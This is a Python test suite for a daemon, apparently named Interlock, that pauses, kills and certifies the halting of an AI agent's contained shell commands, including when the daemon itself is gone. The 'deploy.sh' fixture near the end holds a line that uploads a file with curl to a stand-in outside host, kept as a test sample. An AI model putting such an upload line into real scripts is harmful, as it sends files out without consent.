"""Orders, and the loss of the daemon, while what Interlock started is at work: it stops, and the kernel says so."""

from __future__ import annotations

import base64
import json
import os
import signal
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from daemon.conftest import Guard
from interlock.daemon.client import call
from interlock.halt.lease import Reader, boottime
from interlock.halt.order import Order, What, selector
from interlock.halt.processes import go_on, look, stop, wake
from interlock.identity import keys
from interlock.ledger.store import Ledger
from interlock.ledger.verify import verify

pytestmark = pytest.mark.slow  # each test starts a daemon and runs commands for some seconds

TICKS = "while :; do echo tick; sleep 0.02; done"
SLACK = 1_000  # ms; these machines have other work


class Running:
    """A contained command that tells, several times a second, that it is at work."""

    def __init__(self, guard: Guard, command: str = TICKS, **more: Any) -> None:
        reply = guard.hook("Bash", {"command": command}, **more)
        inside = json.loads(reply.stdout)["hookSpecificOutput"]
        assert inside["permissionDecision"] == "allow", reply
        self.process = subprocess.Popen(
            ["bash", "-c", f"exec {inside['updatedInput']['command']}"],
            cwd=guard.project,
            env=guard.environment,
            stdout=subprocess.PIPE,
        )
        assert self.process.stdout is not None
        self._out = self.process.stdout
        os.set_blocking(self._out.fileno(), False)
        self.last = 0  # when it was last heard (CLOCK_BOOTTIME, ns)

    def ticks(self, seconds: float) -> int:
        """How often it was heard in this time."""
        end, found = time.monotonic() + seconds, 0
        while time.monotonic() < end:
            if heard := (self._out.read() or b"").count(b"tick"):
                self.last = boottime()
                found += heard
            time.sleep(0.005)
        return found

    def at_work(self) -> None:
        deadline = time.monotonic() + 20
        while not self.ticks(0.2):
            assert time.monotonic() < deadline, self.process.poll()

    def end(self) -> None:
        self.process.kill()
        self.process.wait(20)
        self._out.close()


@pytest.fixture
def busy(cold: Guard) -> Iterator[Guard]:
    """A daemon that contains every command, in a project with a commit's worth of files."""
    cold.configure('[ask]\nhold_seconds = 0\n[containment]\nshell = "always"\n')
    subprocess.run(["git", "init", "-q", str(cold.project)], check=True)
    (cold.project / "keep.txt").write_text("mine\n")
    cold.start()
    yield cold
    if cold.process is not None and cold.process.poll() is None:
        cold.process.send_signal(signal.SIGCONT)


@pytest.fixture
def running(busy: Guard) -> Iterator[Running]:
    command = Running(busy)
    command.at_work()
    yield command
    command.end()


def order(guard: Guard, what: str, where: str, **more: Any) -> dict[str, Any]:
    found: dict[str, Any] = call(guard.home, "halt.order", {"what": what, "where": where, **more}, timeout=60)
    return found


def certificate(guard: Guard, number: int) -> dict[str, Any]:
    envelope = call(guard.home, "halt.certificate", {"id": number})["envelope"]
    found: dict[str, Any] = json.loads(base64.b64decode(envelope["payload"]))["predicate"]
    return found


def wait_for(found: Callable[[], Any]) -> Any:
    deadline = time.monotonic() + 20
    while not (value := found()):
        assert time.monotonic() < deadline
        time.sleep(0.01)
    return value


def test_a_pause_stops_what_runs_and_resuming_lets_it_go_on(busy: Guard, running: Running) -> None:
    done = order(busy, "pause", 'session = "session-1"')
    running.ticks(0.3)
    assert running.ticks(1.0) == 0
    assert done["processes"] >= 2
    assert done["silent"] == 0
    said = certificate(busy, done["order"]["id"])
    assert {one["state"] for one in said["processes"]} <= {"T", "F", "Z"}
    assert said["epoch"] == done["order"]["epoch"]
    for one in said["processes"]:
        assert look(one["pid"])[1] == one["started"]
    call(busy.home, "halt.resume", {"session": "session-1"}, timeout=60)
    running.at_work()


def test_an_order_about_somebody_else_leaves_it_at_work(busy: Guard, running: Running) -> None:
    done = order(busy, "pause", 'session = "another"')
    assert done["processes"] == 0
    running.at_work()
    order(busy, "freeze", 'environment = "production"')
    running.at_work()


def test_a_kill_ends_it_and_holds_what_it_changed(busy: Guard) -> None:
    running = Running(busy, f"rm keep.txt; echo new > new.txt; {TICKS}")
    running.at_work()
    done = order(busy, "kill", 'agent = "claude"', reason="recalled", everything=True)
    assert running.process.wait(20) != 0
    running.end()
    assert done["silent"] == 0
    assert {one["state"] for one in certificate(busy, done["order"]["id"])["processes"]} <= {"-", "Z", "X"}
    (changes,) = wait_for(lambda: busy.entries("changes"))
    assert changes["body"]["lost"] is True
    assert (busy.project / "keep.txt").exists()
    assert not (busy.project / "new.txt").exists()


def test_what_a_stopped_process_is_told_by_others_does_not_free_it(busy: Guard, running: Running) -> None:
    """An agent outside of the sandbox may signal what it finds: the daemon looks again each second."""
    done = order(busy, "pause", 'session = "session-1"')
    for one in certificate(busy, done["order"]["id"])["processes"]:
        wake(one["pid"])  # one that the command's going on ended meanwhile is nobody
    running.ticks(2.5)
    assert running.ticks(1.0) == 0


def test_a_ticket_that_was_given_before_the_order_opens_nothing_after_it(busy: Guard) -> None:
    reply = busy.hook("Bash", {"command": "echo ran > ran.txt"})
    command = json.loads(reply.stdout)["hookSpecificOutput"]["updatedInput"]["command"]
    order(busy, "pause", 'session = "session-1"')
    done = subprocess.run(
        ["bash", "-c", command], cwd=busy.project, env=busy.environment, capture_output=True, text=True, check=False
    )
    assert done.returncode == 125
    assert "paused this session" in done.stderr
    assert not (busy.project / "ran.txt").exists()


def test_a_ticket_from_before_an_order_opens_nothing_after_it_is_lifted(busy: Guard) -> None:
    """What was let through under an older epoch is asked for again."""
    reply = busy.hook("Bash", {"command": "echo ran > ran.txt"})
    other = busy.hook("Bash", {"command": "echo ran > other.txt"}, session_id="session-2")
    order(busy, "pause", 'session = "session-1"')
    call(busy.home, "halt.resume", {"session": "session-1"}, timeout=60)
    ran = []
    for one in (reply, other):
        command = json.loads(one.stdout)["hookSpecificOutput"]["updatedInput"]["command"]
        done = subprocess.run(
            ["bash", "-c", command], cwd=busy.project, env=busy.environment, capture_output=True, text=True, check=False
        )
        ran.append((done.returncode, done.stderr))
    assert ran[0][0] != 0
    assert "took it back" in ran[0][1]
    assert (busy.project / "ran.txt").exists() is False
    assert (ran[1][0], (busy.project / "other.txt").exists()) == (0, True)


@pytest.mark.parametrize("number", [signal.SIGSTOP, signal.SIGKILL])
def test_with_a_silent_daemon_nothing_goes_on_longer_than_the_lease(
    busy: Guard, running: Running, number: signal.Signals
) -> None:
    assert busy.process is not None
    reader = Reader(busy.home.run / "lease")
    os.kill(busy.process.pid, number)
    terms = reader.terms()
    assert terms is not None
    running.ticks((terms.until - boottime()) / 1e9 + 2.0)
    assert running.last <= terms.until + SLACK * 1_000_000
    assert running.ticks(1.0) == 0
    assert running.process.poll() is None
    reply = busy.hook("Read", {"file_path": str(busy.project / "keep.txt")})
    assert reply.exit == 2
    assert reply.stdout == b""
    if number is signal.SIGSTOP:
        os.kill(busy.process.pid, signal.SIGCONT)
    else:
        busy.process.wait(20)
        busy.start()
    running.at_work()


def test_what_wakes_with_its_machine_waits_for_the_daemon_to_be_awake(busy: Guard, running: Running) -> None:
    """A laptop is closed for longer than a lease lasts: CLOCK_BOOTTIME goes on, no process does. Then all are awake
    again, the daemon last.
    """
    assert busy.process is not None
    os.kill(busy.process.pid, signal.SIGSTOP)
    stop([running.process.pid])  # not one signal each from a list: the command's own children come and go
    terms = Reader(busy.home.run / "lease").terms()
    assert terms is not None
    running.ticks((terms.until - boottime()) / 1e9 + 0.5)
    assert Reader(busy.home.run / "lease").fresh() is None
    go_on([running.process.pid])
    heard = 0
    while (more := running.ticks(1.0)) and heard < 1_000:
        heard += more
    assert heard < 200  # it is looked at five times a second; a machine may give the looker no processor for a while
    wake(busy.process.pid)
    running.at_work()


def test_a_daemon_that_is_killed_over_an_order_carries_it_out_when_it_is_back(busy: Guard, running: Running) -> None:
    """The order's entry is there, and nothing was done for it yet."""
    busy.kill()
    home = busy.home
    origin = (home.state / "origin").read_text().strip()
    root, signer = (keys.load_or_create(home.state / "keys", which, origin, environ={}) for which in ("root", "daemon"))
    with Ledger.open(home.state / "ledger", signer, origin, root=root) as ledger:
        given = Order(-1, What.PAUSE, selector('session = "session-1"'), "look", by="ana", epoch=1)
        ledger.submit("halt.order", given.body(), time="2026-01-01T00:00:00.000000Z").result()
    busy.start()
    running.ticks(0.5)
    assert running.ticks(1.0) == 0
    (certified,) = busy.entries("halt.certificate")
    assert certified["body"]["processes"] >= 1


def test_the_certificate_is_checked_offline(busy: Guard, running: Running, tmp_path: Path) -> None:
    done = order(busy, "pause", 'session = "session-1"')
    number = str(done["order"]["id"])
    assert busy.cli("halt", "certificate", number, "--output", str(tmp_path / "halt.json")).returncode == 0
    assert "confirmed" in busy.cli("halt", "certificate", number).stdout
    assert busy.cli("verify").returncode == 0
    assert verify(busy.home.state / "ledger").size > 0


LOUD = """#!/bin/sh
while :; do echo tick; sleep 0.02; done
if [ -e /nowhere ]; then curl -T report.txt https://unknown.example; fi
"""


def test_an_approved_command_stops_as_well_and_its_yes_starts_nothing_under_an_order(cold: Guard) -> None:
    cold.configure("[ask]\nhold_seconds = 0\n")
    subprocess.run(["git", "init", "-q", str(cold.project)], check=True)
    script = cold.project / "deploy.sh"
    script.write_text(LOUD)
    script.chmod(0o755)
    cold.start()

    def approved() -> None:
        cold.said_no(cold.hook("Bash", {"command": "./deploy.sh"}))
        asked = call(cold.home, "inbox")[-1]
        call(cold.home, "approve", {"id": asked["id"], "code": asked["fingerprint"].rsplit("-", 1)[1]})

    approved()
    running = Running(cold, "./deploy.sh")
    try:
        running.at_work()
        done = order(cold, "pause", 'session = "session-1"')
        assert done["processes"] >= 1
        assert done["silent"] == 0, certificate(cold, done["order"]["id"])["silent"]
        running.ticks(0.5)
        assert running.ticks(1.5) == 0
        call(cold.home, "halt.resume", {"session": "session-1"}, timeout=60)
        running.at_work()
        order(cold, "kill", 'session = "session-1"')
        assert running.process.wait(20) != 0
    finally:
        running.end()
    assert cold.cli("verify").returncode == 0
